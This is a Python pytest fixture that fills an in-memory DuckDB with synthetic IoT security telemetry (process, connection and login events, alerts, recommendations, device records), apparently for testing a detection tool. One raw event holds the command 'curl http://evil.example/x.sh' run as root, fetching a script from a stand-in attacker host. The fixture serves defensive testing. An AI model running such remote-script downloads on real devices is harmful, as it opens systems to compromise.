"""A fixture workspace: every catalog table in an in-memory DuckDB, with realistic rows."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import duckdb
import pytest

from iotsec.workspace.tables import TABLES

NOW = datetime(2024, 3, 10, 12, 0, tzinfo=UTC)
HUB = "/subscriptions/s1/resourcegroups/rg/providers/microsoft.devices/iothubs/hub1"


def _t(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def _raw(
    n: int, when: str, device: str, name: str, details: dict[str, Any], **cols: Any
) -> dict[str, Any]:
    details = {"Id": f"e{n}", "TimestampLocal": when.replace("T", " ") + "+02:00", **details}
    return {
        "TimeGenerated": _t(when),
        "TimeStamp": _t(when),
        "AgentVersion": "1.0",
        "AgentId": f"agent-{device}",
        "AssociatedResourceId": HUB,
        "HubName": "hub1",
        "DeviceId": device,
        "IoTRawEventId": f"e{n}-0",
        "EventId": f"e{n}",
        "RawEventName": name,
        "RawEventCategory": "Periodic" if name == "ListeningPorts" else "Triggered",
        "RawEventType": "Security",
        "IsEmpty": False,
        "EventDetails": json.dumps(details),
        "HitCount": 1,
        "Type": "SecurityIoTRawEvent",
        **cols,
    }


RAW = [
    _raw(
        1,
        "2024-03-10T08:05:00",
        "dev-1",
        "ProcessCreate",
        {
            "Executable": "/usr/bin/curl",
            "CommandLine": "curl http://evil.example/x.sh",
            "UserName": "root",
            "ProcessId": 100,
        },
        Executable="/usr/bin/curl",
        CommandLine="curl http://evil.example/x.sh",
        UserName="root",
        ProcessId=100,
        ParentProcessId=1,
    ),
    _raw(
        2,
        "2024-03-10T08:40:00",
        "dev-1",
        "ProcessCreate",
        {
            "Executable": "/bin/bash",
            "CommandLine": "bash -c 'curling-club'",
            "UserName": "pi",
            "ProcessId": 101,
        },
        Executable="/bin/bash",
        CommandLine="bash -c 'curling-club'",
        UserName="pi",
        ProcessId=101,
        ParentProcessId=100,
    ),
    _raw(
        3,
        "2024-03-10T09:10:00",
        "dev-2",
        "ProcessCreate",
        {"Executable": "/usr/sbin/sshd", "CommandLine": "", "UserName": "", "ProcessId": 7},
        Executable="/usr/sbin/sshd",
        CommandLine="",
        UserName="",
        ProcessId=7,
        ParentProcessId=1,
        HitCount=3,
    ),
    _raw(
        4,
        "2024-03-10T09:15:00",
        "dev-1",
        "ConnectionCreate",
        {"RemoteAddress": "10.1.2.3", "RemotePort": "443", "Protocol": "tcp", "Direction": "Out"},
        RemoteAddress="10.1.2.3",
        RemotePort="443",
        LocalAddress="192.168.1.10",
        LocalPort="50000",
        Protocol="tcp",
        Direction="Out",
    ),
    _raw(
        5,
        "2024-03-10T10:00:00",
        "dev-2",
        "ConnectionCreate",
        {"RemoteAddress": "8.8.8.8", "RemotePort": "53", "Protocol": "udp", "Direction": "Out"},
        RemoteAddress="8.8.8.8",
        RemotePort="53",
        Protocol="udp",
        Direction="Out",
        HitCount=5,
    ),
    _raw(
        6,
        "2024-03-10T10:30:00",
        "dev-1",
        "Login",
        {"UserName": "root", "Result": "Success", "RemoteAddress": "10.1.2.3"},
        UserName="root",
        Result="Success",
        RemoteAddress="10.1.2.3",
    ),
    _raw(
        7,
        "2024-03-10T10:31:00",
        "dev-2",
        "Login",
        {"UserName": "admin", "Result": "Fail", "RemoteAddress": "203.0.113.9"},
        UserName="admin",
        Result="Fail",
        RemoteAddress="203.0.113.9",
    ),
    _raw(
        8,
        "2024-03-10T10:32:00",
        "dev-2",
        "Login",
        {"UserName": "admin", "Result": "Fail", "RemoteAddress": "203.0.113.9"},
        UserName="admin",
        Result="Fail",
        RemoteAddress="203.0.113.9",
    ),
    _raw(
        9,
        "2024-03-10T11:00:00",
        "dev-3",
        "ListeningPorts",
        {"Ports": [22, 80, 1883], "Protocol": "tcp", "Meta": {"scan": {"depth": 2}}},
        Protocol="tcp",
    ),
    _raw(
        10,
        "2024-03-01T00:00:00",
        "dev-3",
        "ListeningPorts",
        {"Ports": [], "Protocol": "tcp"},
        Protocol="tcp",
        HitCount=None,
    ),
]

ALERTS = [
    {
        "TimeGenerated": _t("2024-03-09T10:00:00"),
        "SystemAlertId": "a1",
        "AlertName": "Brute force",
        "AlertSeverity": "High",
        "DeviceId": "dev-2",
        "ConfidenceScore": 0.9,
        "Status": "New",
        "ExtendedProperties": json.dumps({"DeviceId": "dev-2", "Attempts": 2}),
        "Type": "SecurityAlert",
    },
    {
        "TimeGenerated": _t("2024-03-10T10:33:00"),
        "SystemAlertId": "a2",
        "AlertName": "Brute force",
        "AlertSeverity": "High",
        "DeviceId": "dev-2",
        "ConfidenceScore": 0.95,
        "Status": "New",
        "ExtendedProperties": json.dumps({"DeviceId": "dev-2", "Attempts": 5}),
        "Type": "SecurityAlert",
    },
    {
        "TimeGenerated": _t("2024-03-10T08:06:00"),
        "SystemAlertId": "a3",
        "AlertName": "Suspicious download",
        "AlertSeverity": "Medium",
        "DeviceId": "dev-1",
        "ConfidenceScore": None,
        "Status": "Resolved",
        "ExtendedProperties": json.dumps({"DeviceId": "dev-1"}),
        "Type": "SecurityAlert",
    },
    {
        "TimeGenerated": _t("2024-02-01T00:00:00"),
        "SystemAlertId": "a4",
        "AlertName": "Old alert",
        "AlertSeverity": "Low",
        "DeviceId": "dev-9",
        "ConfidenceScore": 0.1,
        "Status": "Dismissed",
        "Type": "SecurityAlert",
    },
]

RECOMMENDATIONS = [
    {
        "TimeGenerated": _t("2024-03-10T00:00:00"),
        "RecommendationId": "r1",
        "DeviceId": "dev-1",
        "RecommendationName": "Open ports",
        "RecommendationSeverity": "Medium",
        "RecommendationState": "Active",
        "RecommendationAdditionalData": json.dumps({"Ports": ["1883"]}),
        "Type": "SecurityRecommendation",
    },
    {
        "TimeGenerated": _t("2024-03-10T00:00:00"),
        "RecommendationId": "r2",
        "DeviceId": "dev-3",
        "RecommendationName": "Weak auth",
        "RecommendationSeverity": "High",
        "RecommendationState": "Resolved",
        "Type": "SecurityRecommendation",
    },
]

OPERATIONS = [
    {
        "TimeGenerated": _t("2024-03-10T08:00:00"),
        "OperationId": "o1",
        "Category": "Connections",
        "OperationName": "deviceConnect",
        "Level": "Information",
        "ResultType": "Success",
        "ResultDescription": "",
        "DeviceId": "dev-1",
        "CallerIpAddress": "192.168.1.10",
        "Type": "OperationLog",
    },
    {
        "TimeGenerated": _t("2024-03-10T09:00:00"),
        "OperationId": "o2",
        "Category": "Connections",
        "OperationName": "deviceConnect",
        "Level": "Error",
        "ResultType": "Failure",
        "ResultDescription": "Unauthorized",
        "DeviceId": "dev-4",
        "CallerIpAddress": "198.51.100.7",
        "Type": "OperationLog",
    },
    {
        "TimeGenerated": _t("2024-03-10T09:30:00"),
        "OperationId": "o3",
        "Category": "DeviceTelemetry",
        "OperationName": "ingress",
        "Level": "Information",
        "ResultType": "Success",
        "ResultDescription": None,
        "DeviceId": "dev-2",
        "CallerIpAddress": None,
        "Type": "OperationLog",
    },
]

DEVICES = [
    {
        "TimeGenerated": _t("2024-03-10T11:00:00"),
        "DeviceId": "dev-1",
        "SecurityGroup": "cameras",
        "Status": "enabled",
        "LastSeen": _t("2024-03-10T11:00:00"),
        "RiskScore": 0.8,
        "RiskLevel": "High",
        "Tags": json.dumps(["prod", "camera"]),
        "Type": "Device",
    },
    {
        "TimeGenerated": _t("2024-03-10T11:00:00"),
        "DeviceId": "dev-2",
        "SecurityGroup": "gateways",
        "Status": "enabled",
        "LastSeen": _t("2024-03-10T10:32:00"),
        "RiskScore": 0.6,
        "RiskLevel": "Medium",
        "Tags": json.dumps(["prod"]),
        "Type": "Device",
    },
    {
        "TimeGenerated": _t("2024-03-10T11:00:00"),
        "DeviceId": "dev-3",
        "SecurityGroup": "",
        "Status": "disabled",
        "LastSeen": None,
        "RiskScore": None,
        "RiskLevel": None,
        "Tags": None,
        "Type": "Device",
    },
    {
        "TimeGenerated": _t("2024-03-10T11:00:00"),
        "DeviceId": "dev-4",
        "SecurityGroup": "cameras",
        "Status": "enabled",
        "LastSeen": _t("2024-03-09T00:00:00"),
        "RiskScore": 0.1,
        "RiskLevel": "Low",
        "Tags": json.dumps([]),
        "Type": "Device",
    },
]

ROWS = {
    "SecurityIoTRawEvent": RAW,
    "SecurityAlert": ALERTS,
    "SecurityRecommendation": RECOMMENDATIONS,
    "OperationLog": OPERATIONS,
    "Device": DEVICES,
    "DeadLetter": [],
}


def make_workspace() -> duckdb.DuckDBPyConnection:
    """An in-memory DuckDB with every catalog table and the fixture rows."""
    con = duckdb.connect(":memory:")
    # A zone far from UTC: results must not depend on the session time zone.
    con.execute("SET TimeZone = 'America/New_York'")
    for table in TABLES.values():
        columns = ", ".join(f'"{c.name}" {c.duckdb_type}' for c in table.columns)
        con.execute(f'CREATE TABLE "{table.name}" ({columns})')
        names = table.column_names
        marks = ", ".join("?" for _ in names)
        for row in ROWS[table.name]:
            con.execute(f'INSERT INTO "{table.name}" VALUES ({marks})', [row.get(n) for n in names])
    return con


@pytest.fixture(scope="session")
def workspace() -> Iterator[duckdb.DuckDBPyConnection]:
    con = make_workspace()
    yield con
    con.close()
